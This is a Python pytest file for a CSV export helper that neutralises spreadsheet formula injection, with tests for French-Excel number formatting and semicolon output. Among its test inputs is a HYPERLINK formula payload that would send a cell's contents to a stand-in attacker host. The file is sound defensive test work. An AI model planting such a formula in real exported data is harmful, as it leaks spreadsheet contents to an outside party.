"""CSV cells: text a spreadsheet would run as a formula is written as text, numbers as numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from procedures.inbox.spreadsheet import Cell, csv_text, safe_cell


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1)', "+33 1 23", "-2+3", "@SUM(1+1)",
        "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "\u00a0@SUM(1)", "＝1+1", "－1",
    ],
)  # fmt: skip
def test_text_that_starts_like_a_formula_is_written_behind_an_apostrophe(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("Petite enfance", "Petite enfance"), ("", ""), ("a=b", "a=b"), ("'déjà", "'déjà"),
        (3, "3"), (-1, "-1"), (Decimal("-1.0"), "-1,0"), (Decimal("12.5"), "12,5"),
        (True, "True"),
    ],
)  # fmt: skip
def test_plain_text_and_numbers_are_written_as_they_are(value: Cell, written: str) -> None:
    assert safe_cell(value) == written


def test_a_csv_file_opens_in_french_excel_with_every_cell_through_safe_cell() -> None:
    text = csv_text(["Nom", "Valeur"], [["=1+1", -2], ["Crèche; Nord", Decimal("-0.5")]])

    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))
    assert rows == [["Nom", "Valeur"], ["'=1+1", "-2"], ["Crèche; Nord", "-0,5"]]
